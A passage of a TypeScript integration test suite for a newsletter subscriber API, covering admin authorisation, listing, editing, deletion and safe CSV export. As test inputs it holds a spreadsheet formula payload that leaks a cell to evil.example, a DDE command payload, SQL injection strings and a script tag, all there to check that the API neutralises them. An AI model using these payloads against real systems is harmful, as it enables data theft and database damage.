      'content-type': 'multipart/form-data; boundary=xyz',
    })
    await expectProblem(await truncated, 400, 'validation_failed')
    expect((await findSubscriber(token, email)).status).toBe('active')
  })

  it.for(['bounced', 'complained'] as const)(
    'leaves a %s subscriber %s (never reactivated, never mailed), and answers 200',
    async (status, { expect }) => {
      const token = await adminToken()
      const email = uniqueEmail(status)
      await subscribeActive(email)
      const { id } = await findSubscriber(token, email)
      expect((await api('PATCH', `/subscribers/${id}`, { status }, token)).status).toBe(200)
      await expectUnsubscribed(await postOneClick(await oneClickUrl(email)))
      await expectUnsubscribed(
        await api('POST', '/subscribers/unsubscribe', { token: await tokenFromEmail(email, UNSUBSCRIBE_PATH) }),
      )
      expect((await findSubscriber(token, email)).status).toBe(status)
    },
  )
})

describe('GET /api/v1/subscribers/unsubscribe (link scanners)', () => {
  it('unsubscribes nobody: 405 method_not_allowed with Allow: POST, whatever the query', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail('scanner')
    await subscribeActive(email)
    const url = await oneClickUrl(email)
    for (const target of [url, `${url}&List-Unsubscribe=One-Click`, `${BASE_URL}/api/v1/subscribers/unsubscribe`]) {
      for (const method of ['GET', 'HEAD']) {
        const res = await fetchWorker(target, { method, redirect: 'manual' })
        expect(res.status, `${method} ${target}`).toBe(405)
        expect(res.headers.get('allow')).toBe('POST')
        expect(res.headers.get('location')).toBeNull()
        if (method === 'GET') await expectProblem(res, 405, 'method_not_allowed')
      }
    }
    // An administrator's token changes nothing either: this is not GET /subscribers/{id}.
    await expectProblem(await api('GET', '/subscribers/unsubscribe', undefined, token), 405, 'method_not_allowed')
    expect((await findSubscriber(token, email)).status).toBe('active')
  })
})

describe('admin endpoints: authentication and authorisation', () => {
  const endpoints = [
    ['GET', '/subscribers'],
    ['GET', '/subscribers/export'],
    ['GET', '/subscribers/{id}'],
    ['PATCH', '/subscribers/{id}'],
    ['DELETE', '/subscribers/{id}'],
  ] as const

  async function existingSubscriberId(): Promise<number> {
    const email = uniqueEmail()
    await subscribeOk(email)
    const { results } = await getPage(`/subscribers?q=${encodeURIComponent(email)}`, await adminToken())
    return results[0]!.id
  }

  const bodyFor = (method: string): unknown => (method === 'PATCH' ? { name: 'Changed' } : undefined)

  it.for(endpoints)('%s %s answers 401 not_authenticated without a token', async ([method, path], { expect }) => {
    const id = await existingSubscriberId()
    const res = await api(method, path.replace('{id}', String(id)), bodyFor(method))
    expect(res.headers.get('www-authenticate')).toBe('Bearer realm="api"')
    await expectProblem(res, 401, 'not_authenticated')
  })

  it.for(endpoints)('%s %s answers 403 forbidden to a non-admin', async ([method, path], { expect }) => {
    const id = await existingSubscriberId()
    const { tokens } = await registerAndLogin()
    await expectProblem(
      await api(method, path.replace('{id}', String(id)), bodyFor(method), tokens.access_token),
      403,
      'forbidden',
    )
    // The subscriber is untouched.
    const after = await api('GET', `/subscribers/${id}`, undefined, await adminToken())
    expect(after.status).toBe(200)
    expect((await after.json()) as SubscriberView).toMatchObject({ id, name: null })
  })

  it.for(endpoints)('%s %s answers 2xx to an admin', async ([method, path], { expect }) => {
    const id = await existingSubscriberId()
    const res = await api(method, path.replace('{id}', String(id)), bodyFor(method), await adminToken())
    expect(res.status).toBe(method === 'DELETE' ? 204 : 200)
    if (method === 'GET') expect(res.headers.get('cache-control')).toMatch(/no-store/)
  })
})

describe('GET /api/v1/subscribers', () => {
  it('lists newest first, walking every page with limit=2', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('walk')
    const emails = Array.from({ length: 5 }, (_, i) => `${tag}.${i}@example.com`)
    for (const email of emails) await subscribeOk(email)

    const pages = await walk(`/subscribers?q=${tag}&limit=2`, token)
    expect(pages.map((page) => page.results.length)).toEqual([2, 2, 1])
    expect(pages[0]!.previous).toBeNull()
    expect(pages[1]!.previous).not.toBeNull()
    for (const page of pages.slice(0, -1)) expect(page.next!.startsWith(`${BASE_URL}/api/v1/subscribers?`)).toBe(true)
    const listed = pages.flatMap((page) => page.results)
    expect(listed.map((s) => s.email)).toEqual([...emails].reverse())
    const created = listed.map((s) => Date.parse(s.created_at))
    expect(created).toEqual([...created].sort((a, b) => b - a))
    const ids = listed.map((s) => s.id)
    expect(ids).toEqual([...ids].sort((a, b) => b - a))
  })

  it('shows exactly {id, email, name, status, created_at, confirmed_at}', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email, 'Exact')
    const subscriber = await findSubscriber(token, email)
    expect(Object.keys(subscriber).sort()).toEqual(SUBSCRIBER_KEYS)
    expect(typeof subscriber.id === 'number' || typeof subscriber.id === 'string').toBe(true)
    const text = JSON.stringify(subscriber)
    expect(text).not.toMatch(/unsubscribe|token|hash|updated/i)
  })

  it('filters by status', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('status')
    const pending = `${tag}.pending@example.com`
    const active = `${tag}.active@example.com`
    const unsubscribed = `${tag}.unsubscribed@example.com`
    await subscribeOk(pending)
    await subscribeActive(active)
    await subscribeUnsubscribed(unsubscribed)

    const emailsWith = async (status: SubscriberStatus): Promise<string[]> =>
      (await getPage(`/subscribers?q=${tag}&status=${status}`, token)).results.map((s) => s.email)
    expect(await emailsWith('pending')).toEqual([pending])
    expect(await emailsWith('active')).toEqual([active])
    expect(await emailsWith('unsubscribed')).toEqual([unsubscribed])
    expect((await getPage(`/subscribers?q=${tag}`, token)).results).toHaveLength(3)
  })

  it('filters by bounced and complained, and exports them as such', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('undeliverable')
    const bounced = `${tag}.bounced@example.com`
    const complained = `${tag}.complained@example.com`
    await subscribeActive(bounced)
    await subscribeActive(complained)
    for (const [email, status] of [
      [bounced, 'bounced'],
      [complained, 'complained'],
    ] as const) {
      const { id } = await findSubscriber(token, email)
      const res = await api('PATCH', `/subscribers/${id}`, { status }, token)
      expect(res.status).toBe(200)
      expect(await res.json()).toMatchObject({ email, status })
    }
    const emailsWith = async (status: SubscriberStatus): Promise<string[]> =>
      (await getPage(`/subscribers?q=${tag}&status=${status}`, token)).results.map((s) => s.email)
    expect(await emailsWith('bounced')).toEqual([bounced])
    expect(await emailsWith('complained')).toEqual([complained])
    expect(await emailsWith('active')).toEqual([])

    const { rows } = await exportCsv(token)
    expect(rows.get((await findSubscriber(token, bounced)).id)?.[3]).toBe('bounced')
    expect(rows.get((await findSubscriber(token, complained)).id)?.[3]).toBe('complained')
  })

  it('walks a status-filtered list across pages', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('statuswalk')
    const active = [`${tag}.a1@example.com`, `${tag}.a2@example.com`, `${tag}.a3@example.com`]
    await subscribeActive(active[0]!)
    await subscribeOk(`${tag}.p1@example.com`)
    await subscribeActive(active[1]!)
    await subscribeOk(`${tag}.p2@example.com`)
    await subscribeActive(active[2]!)
    const pages = await walk(`/subscribers?q=${tag}&status=active&limit=2`, token)
    expect(pages.flatMap((page) => page.results.map((s) => s.email))).toEqual([...active].reverse())
  })

  it('answers 400 validation_failed to an invalid status', async ({ expect }) => {
    const token = await adminToken()
    for (const status of ['confirmed', 'ACTIVE', '']) {
      const problem = await expectProblem(
        await api('GET', `/subscribers?status=${status}`, undefined, token),
        400,
        'validation_failed',
      )
      expect(problem.errors?.map((e) => e.path)).toContain('status')
    }
  })

  it('answers 400 validation_failed naming "limit" to an out-of-range limit', async ({ expect }) => {
    const token = await adminToken()
    for (const limit of ['0', '101', 'abc']) {
      const problem = await expectProblem(
        await api('GET', `/subscribers?limit=${limit}`, undefined, token),
        400,
        'validation_failed',
      )
      expect(problem.errors?.map((e) => e.path)).toContain('limit')
    }
  })

  it('refuses a forged cursor with 400', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('cursor')
    for (let i = 0; i < 3; i++) await subscribeOk(`${tag}.${i}@example.com`)
    const { next } = await getPage(`/subscribers?q=${tag}&limit=1`, token)
    const cursor = new URL(next!).searchParams.get('cursor')!
    const forged = `${cursor.slice(0, -2)}${cursor.endsWith('AA') ? 'BB' : 'AA'}`
    const res = await api('GET', `/subscribers?q=${tag}&limit=1&cursor=${encodeURIComponent(forged)}`, undefined, token)
    expect(res.status).toBe(400)
    // A cursor is bound to its filters: reusing it without q is refused too.
    const unscoped = await api('GET', `/subscribers?limit=1&cursor=${encodeURIComponent(cursor)}`, undefined, token)
    expect(unscoped.status).toBe(400)
  })

  it('searches q as a case-insensitive substring of the email', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('qmail')
    const email = `${tag}.reader@example.com`
    await subscribeOk(email)
    const results = async (q: string): Promise<string[]> =>
      (await getPage(`/subscribers?q=${encodeURIComponent(q)}`, token)).results.map((s) => s.email)
    expect(await results(`${tag}.reader`)).toEqual([email])
    expect(await results(`${tag}.READER@EXAMPLE`.toUpperCase())).toEqual([email])
    expect(await results(`${tag}.writer`)).toEqual([])
  })

  it('searches q as a case-insensitive substring of the name', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('qname')
    const email = uniqueEmail()
    await subscribeOk(email, `Ada ${tag} Lovelace`)
    await subscribeOk(uniqueEmail(), 'Someone else')
    const results = async (q: string): Promise<string[]> =>
      (await getPage(`/subscribers?q=${encodeURIComponent(q)}`, token)).results.map((s) => s.email)
    expect(await results(`${tag} lovelace`)).toEqual([email])
    expect(await results(`ADA ${tag.toUpperCase()}`)).toEqual([email])
  })

  it('finds a name with non-ASCII capitals by its exact text', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('accent')
    const email = uniqueEmail()
    await subscribeOk(email, `ÉCOLE Ørsted ${tag}`)
    const { results } = await getPage(`/subscribers?q=${encodeURIComponent(`ÉCOLE Ørsted ${tag}`)}`, token)
    expect(results.map((s) => s.email)).toEqual([email])
  })

  it('matches % and _ in q literally, not as LIKE wildcards', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('wild').replace(/_/g, '')
    const percent = uniqueEmail('percent')
    const notPercent = uniqueEmail('notpercent')
    const underscore = uniqueEmail('underscore')
    const notUnderscore = uniqueEmail('notunderscore')
    await subscribeOk(percent, `${tag}%off`)
    await subscribeOk(notPercent, `${tag}xoff`)
    await subscribeOk(underscore, `${tag}a_b`)
    await subscribeOk(notUnderscore, `${tag}axb`)
    const results = async (q: string): Promise<string[]> =>
      (await getPage(`/subscribers?q=${encodeURIComponent(q)}`, token)).results.map((s) => s.email)
    expect(await results(`${tag}%`)).toEqual([percent])
    expect(await results(`${tag}a_b`)).toEqual([underscore])
    expect(await results(`${tag}%off`)).toEqual([percent])
    expect(await results('%')).not.toContain(notPercent)
  })

  it('treats SQL metacharacters in q as text', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    const name = `O'Brien"; DROP TABLE subscribers; -- ${uniqueName('sql')}`
    await subscribeOk(email, name)
    const { results } = await getPage(`/subscribers?q=${encodeURIComponent(name)}`, token)
    expect(results.map((s) => s.email)).toEqual([email])
    expect((await getPage(`/subscribers?q=${encodeURIComponent("' OR 1=1 --")}`, token)).results).toEqual([])
  })
})

describe('GET, PATCH, DELETE /api/v1/subscribers/{id}', () => {
  it('GET returns the subscriber view', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email, 'Linus')
    const listed = await findSubscriber(token, email)
    const res = await api('GET', `/subscribers/${listed.id}`, undefined, token)
    expect(res.status).toBe(200)
    const subscriber = (await res.json()) as SubscriberView
    expect(subscriber).toEqual(listed)
    expect(Object.keys(subscriber).sort()).toEqual(SUBSCRIBER_KEYS)
  })

  it('PATCH changes the name', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email, 'Old name')
    const { id } = await findSubscriber(token, email)
    const res = await api('PATCH', `/subscribers/${id}`, { name: 'New name' }, token)
    expect(res.status).toBe(200)
    expect(await res.json()).toMatchObject({ id, email, name: 'New name', status: 'pending' })
    expect((await findSubscriber(token, email)).name).toBe('New name')

    const cleared = await api('PATCH', `/subscribers/${id}`, { name: null }, token)
    expect(await cleared.json()).toMatchObject({ id, name: null })
  })

  it('PATCH status active confirms the subscriber (sets confirmed_at)', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    const { id } = await findSubscriber(token, email)
    const res = await api('PATCH', `/subscribers/${id}`, { status: 'active' }, token)
    expect(res.status).toBe(200)
    const subscriber = (await res.json()) as SubscriberView
    expect(subscriber).toMatchObject({ id, status: 'active' })
    expect(subscriber.confirmed_at).toMatch(ISO_UTC)
    expect(await findSubscriber(token, email)).toEqual(subscriber)
  })

  it('PATCH status unsubscribed and back keeps the first confirmed_at', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeActive(email)
    const { id, confirmed_at: confirmedAt } = await findSubscriber(token, email)
    const unsubscribed = await api('PATCH', `/subscribers/${id}`, { status: 'unsubscribed' }, token)
    expect(await unsubscribed.json()).toMatchObject({ id, status: 'unsubscribed' })
    const reactivated = await api('PATCH', `/subscribers/${id}`, { status: 'active' }, token)
    expect(await reactivated.json()).toMatchObject({ id, status: 'active', confirmed_at: confirmedAt })
  })

  it('PATCH answers 400 to an invalid status or a too long name, 415 to a form body', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    const { id } = await findSubscriber(token, email)
    const badStatus = await expectProblem(
      await api('PATCH', `/subscribers/${id}`, { status: 'gone' }, token),
      400,
      'validation_failed',
    )
    expect(badStatus.errors?.map((e) => e.path)).toContain('status')
    const badName = await expectProblem(
      await api('PATCH', `/subscribers/${id}`, { name: 'x'.repeat(201) }, token),
      400,
      'validation_failed',
    )
    expect(badName.errors?.map((e) => e.path)).toContain('name')
    const form = await api('PATCH', `/subscribers/${id}`, 'name=x', token, {
      'content-type': 'application/x-www-form-urlencoded',
    })
    await expectProblem(form, 415, 'unsupported_media_type')
    expect((await findSubscriber(token, email)).status).toBe('pending')
  })

  it('PATCH answers 400 naming "name" to every unsafe character, echoing nothing, and keeps the stored name', async ({
    expect,
  }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email, 'Ada')
    const { id } = await findSubscriber(token, email)
    for (const [label, character] of UNSAFE_NAME_CHARACTERS) {
      const res = await api('PATCH', `/subscribers/${id}`, { name: `Ada${character}Lovelace` }, token)
      const text = await res.clone().text()
      const problem = await expectProblem(res, 400, 'validation_failed')
      expect(problem.errors, label).toEqual([{ path: 'name', message: UNSAFE_NAME_MESSAGE }])
      expect(text, label).not.toContain('Lovelace')
    }
    expect((await findSubscriber(token, email)).name).toBe('Ada')
  })

  it('DELETE answers 204, then GET answers 404 and the confirmation token is dead', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    const { id } = await findSubscriber(token, email)
    const res = await api('DELETE', `/subscribers/${id}`, undefined, token)
    expect(res.status).toBe(204)
    expect(await res.text()).toBe('')
    await expectProblem(await api('GET', `/subscribers/${id}`, undefined, token), 404, 'not_found')
    await expectProblem(await api('DELETE', `/subscribers/${id}`, undefined, token), 404, 'not_found')
    const confirm = await api('POST', '/subscribers/confirm', { token: await tokenFromEmail(email, CONFIRM_PATH) })
    await expectProblem(confirm, 400, 'token_invalid')
    const unsubscribe = await api('POST', '/subscribers/unsubscribe', {
      token: await tokenFromEmail(email, UNSUBSCRIBE_PATH),
    })
    await expectProblem(unsubscribe, 400, 'token_invalid')
  })

  it('answers 404 not_found to an unknown or malformed id', async () => {
    const token = await adminToken()
    for (const id of ['999999999', '0', '-1', 'abc', '1.5']) {
      await expectProblem(await api('GET', `/subscribers/${id}`, undefined, token), 404, 'not_found')
      await expectProblem(await api('PATCH', `/subscribers/${id}`, { name: 'x' }, token), 404, 'not_found')
      await expectProblem(await api('DELETE', `/subscribers/${id}`, undefined, token), 404, 'not_found')
    }
  })
})

describe('GET /api/v1/subscribers/export', () => {
  it('streams text/csv with the header row and a row per subscriber', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeActive(email, 'Csv Reader')
    const subscriber = await findSubscriber(token, email)

    const { res, header, rows } = await exportCsv(token)
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/)
    expect(header).toEqual(CSV_HEADER)
    expect(rows.get(subscriber.id)).toEqual([
      String(subscriber.id),
      email,
      'Csv Reader',
      'active',
      subscriber.created_at,
      subscriber.confirmed_at,
    ])
  })

  it('writes the header row bare and quotes every value after it, a `;` included', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail('semi')
    await insertSubscriber(email, 'Doe; Jane')
    const text = await (await api('GET', '/subscribers/export', undefined, token)).text()
    expect(text.startsWith('id,email,name,status,created_at,confirmed_at\r\n')).toBe(true)
    const line = text.split('\r\n').find((record) => record.includes(email))
    expect(line).toMatch(new RegExp(`^"\\d+","${email.replaceAll('.', '\\.')}","Doe; Jane","pending","[^"]+",""$`))
  })

  it('writes an empty field for a missing name and confirmed_at', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email)
    const { id, created_at: createdAt } = await findSubscriber(token, email)
    const { rows } = await exportCsv(token)
    expect(rows.get(id)).toEqual([String(id), email, '', 'pending', createdAt, ''])
  })

  it('quotes commas, double quotes and line breaks per RFC 4180 (round trip)', async ({ expect }) => {
    const token = await adminToken()
    const names = [
      'Smith, John',
      'The "Boss"',
      'first line\nsecond line',
      'carriage\r\nreturn',
      'all, of "them"\nat once',
      '"',
      ',',
      '""quoted""',
    ]
    const emails = names.map(() => uniqueEmail('csv'))
    // The API refuses a name with a line break; rows stored before that rule may still hold one.
    for (const [i, name] of names.entries()) await insertSubscriber(emails[i]!, name)

    const res = await api('GET', '/subscribers/export', undefined, token)
    const text = await res.text()
    expect(text).toContain('"Smith, John"')
    expect(text).toContain('"The ""Boss"""')
    const byEmail = new Map(
      parseCsv(text)
        .slice(1)
        .map((record) => [record[1], record]),
    )
    for (const [i, name] of names.entries()) expect(byEmail.get(emails[i]!)?.[2]).toBe(name)
  })

  it('prefixes a text field a spreadsheet would run as a formula with a single quote (OWASP)', async ({ expect }) => {
    const token = await adminToken()
    const posted = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)']
    // A tab or CR can no longer be posted in a name; a row stored before that rule may hold one.
    const stored = ['\t=1+1', '\r=1+1']
    const names = [...posted, ...stored]
    const emails = names.map(() => uniqueEmail('formula'))
    for (const [i, name] of names.entries()) {
      if (i < posted.length) await subscribeOk(emails[i]!, name)
      else await insertSubscriber(emails[i]!, name)
    }
    // An address may start with "-" or "+" too.
    const dashEmail = `-${uniqueEmail('dash')}`
    await subscribeOk(dashEmail, 'Dash')

    const res = await api('GET', '/subscribers/export', undefined, token)
    const text = await res.text()
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`)
    expect(text).toContain(`,"'\r=1+1",`)
    const records = parseCsv(text)
    const byEmail = new Map(records.slice(1).map((record) => [record[1], record]))
    for (const [i, name] of names.entries()) expect(byEmail.get(emails[i]!)?.[2]).toBe(`'${name}`)
    expect(byEmail.get(`'${dashEmail}`)?.[2]).toBe('Dash')
    // Whatever else this file stored: no field starts a formula.
    for (const record of records) for (const field of record) expect(field).not.toMatch(/^[=+\-@\t\r\n\0]/)
  })

  it('exports every subscriber exactly once across 500-row chunks (1 200 inserted directly)', async ({ expect }) => {
    const token = await adminToken()
    const tag = uniqueName('bulk')
    const now = Date.now()
    const statements = Array.from({ length: 1_200 }, (_, i) =>
      env.DB.prepare(
        'INSERT INTO subscribers (email, name, status, created_at, updated_at, unsubscribe_token_hash) VALUES (?1, ?2, ?3, ?4, ?4, ?5)',
      ).bind(
        `${tag}.${i}@example.com`,
        i % 7 === 0 ? `Bulk, "${i}"` : `Bulk ${i}`,
        i % 2 === 0 ? 'active' : 'pending',
        now - i,
        crypto.randomUUID(),
      ),
    )
    await env.DB.batch(statements)
    const { results: inDb } = await env.DB.prepare('SELECT id FROM subscribers').all<{ id: number }>()

    const { rows } = await exportCsv(token)
    expect(rows.size).toBe(inDb.length)
    expect([...rows.keys()].sort((a, b) => a - b)).toEqual(inDb.map((row) => row.id).sort((a, b) => a - b))
    const bulk = [...rows.values()].filter((record) => record[1]!.startsWith(`${tag}.`))
    expect(bulk).toHaveLength(1_200)
    const sample = bulk.find((record) => record[1] === `${tag}.7@example.com`)
    expect(sample?.slice(2, 4)).toEqual(['Bulk, "7"', 'pending'])
  })
})

describe('names with SQL metacharacters and unicode', () => {
  it.for([
    ["Robert'); DROP TABLE subscribers;--"],
    ['%_\\ LIKE wildcards and a backslash'],
    ['Zoë Ångström 😀 中文 ﷽ e\u0301'],
    ['<script>alert(1)</script> & friends'],
  ] as const)('round-trips %s through subscribe, GET and the export', async ([name], { expect }) => {
    const token = await adminToken()
    const email = uniqueEmail()
    await subscribeOk(email, name)
    const subscriber = await findSubscriber(token, email)
    expect(subscriber.name).toBe(name)
    const fetched = await api('GET', `/subscribers/${subscriber.id}`, undefined, token)
    expect(((await fetched.json()) as SubscriberView).name).toBe(name)
    const { rows } = await exportCsv(token)
    expect(rows.get(subscriber.id)?.[2]).toBe(name)
    const [message] = await outboxMessagesTo(email)
    expect(message!.text).toContain(`Hello ${name},`)
    // The table survived.
    const { results } = await env.DB.prepare('SELECT count(*) AS n FROM subscribers').all<{ n: number }>()
    expect(results[0]!.n).toBeGreaterThan(0)
  })
})

describe('POST /api/v1/subscribers cannot be used to mail-bomb an address', () => {
  it('sends at most 3 confirmation emails an hour to one address, and always answers the same 202', async ({
    expect,
  }) => {
    const email = `${uniqueName('bombed')}@example.com`
    for (let i = 0; i < 5; i += 1) {
      const res = await api('POST', '/subscribers', { email: i % 2 === 0 ? email : email.toUpperCase() })
      expect(res.status).toBe(202)
      expect(await res.json()).toEqual({ status: 'pending' })
    }
    expect(await outboxMessagesTo(email)).toHaveLength(3)
  })
})

// ---------------------------------------------------------------------------------------------
// Regression: the CSV export quotes every field, so a spreadsheet in a locale that separates cells
// with `;` cannot split a field (and start a new cell, perhaps a formula) at a `;` inside it.

interface QuotedField {
  value: string
  quoted: boolean
}

/** A strict RFC 4180 parser that also says, field by field, whether the field was quoted. */
function parseCsvFields(text: string): QuotedField[][] {
  const records: QuotedField[][] = []
  let record: QuotedField[] = []
  let i = 0
  while (i < text.length) {
    let value = ''
    let quoted = false
    if (text[i] === '"') {
      quoted = true
      i += 1
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field')
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"'
          i += 2
        } else if (text[i] === '"') {
          i += 1
          break
        } else {
          value += text[i]
          i += 1
        }
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`unquoted ${JSON.stringify(text[i])} at ${i}`)
        value += text[i]
        i += 1
      }
    }
    record.push({ value, quoted })
    if (text[i] === ',') {
      i += 1
    } else if (text[i] === '\r' && text[i + 1] === '\n') {
      records.push(record)
      record = []
      i += 2
    } else {
      throw new Error(`unexpected ${JSON.stringify(text[i] ?? 'end of text')} after a field at ${i}`)
    }
  }
  if (record.length > 0) throw new Error('the last record is not CRLF-terminated')
  return records
}

describe('GET /api/v1/subscribers/export quotes every field', () => {
  it('a name with ";" and "," comes back whole, and every value after the bare header row is quoted', async ({
    expect,
  }) => {
    const token = await adminToken()
    const email = uniqueEmail('semicolon')
    const name = 'Doe; John, Jr.;=1+1'
    await subscribeActive(email, name)
    const pendingEmail = uniqueEmail('semicolon')
    await subscribeOk(pendingEmail, 'a;b')
    const active = await findSubscriber(token, email)
    const pending = await findSubscriber(token, pendingEmail)

    const res = await api('GET', '/subscribers/export', undefined, token)
    expect(res.status).toBe(200)
    const text = await res.text()
    // Byte for byte: the header (bare: its names hold no separator, and clients split it on commas),
    // a row with every field set and a row with empty fields.
    expect(text.startsWith('id,email,name,status,created_at,confirmed_at\r\n')).toBe(true)
    expect(text).toContain(
      `\r\n"${active.id}","${email}","Doe; John, Jr.;=1+1","active","${active.created_at}","${active.confirmed_at}"\r\n`,
    )
    expect(text).toContain(`\r\n"${pending.id}","${pendingEmail}","a;b","pending","${pending.created_at}",""\r\n`)

    const records = parseCsvFields(text)
    expect(records[0]!.map((field) => field.value)).toEqual(CSV_HEADER)
    for (const [index, record] of records.entries()) {
      expect(record).toHaveLength(CSV_HEADER.length)
      if (index > 0) expect(record.filter((field) => !field.quoted)).toEqual([])
    }
    const byEmail = new Map(records.map((record) => [record[1]!.value, record.map((field) => field.value)]))
    expect(byEmail.get(email)).toEqual([
      String(active.id),
      email,
      name,
      'active',
      active.created_at,
      active.confirmed_at,
    ])
    expect(byEmail.get(pendingEmail)).toEqual([
      String(pending.id),
      pendingEmail,
      'a;b',
      'pending',
      pending.created_at,
      '',
    ])
  })

  it('a ";"-separated reading of the row splits no field: every ";" is inside quotes', async ({ expect }) => {
    const token = await adminToken()
    const email = uniqueEmail('locale')
    await subscribeOk(email, 'x;=HYPERLINK("http://evil.example","y")')
    const { id } = await findSubscriber(token, email)
    const text = await (await api('GET', '/subscribers/export', undefined, token)).text()
    const line = text.split('\r\n').find((candidate) => candidate.startsWith(`"${id}",`))!
    // Outside quotes a row has only the five commas between its six fields, and no ";".
    let inQuotes = false
    const outside: string[] = []
    for (const char of line) {
      if (char === '"') inQuotes = !inQuotes
      else if (!inQuotes) outside.push(char)
    }
    expect(outside.join('')).toBe(',,,,,')
    expect(line).toContain('"x;=HYPERLINK(""http://evil.example"",""y"")"')
  })
})
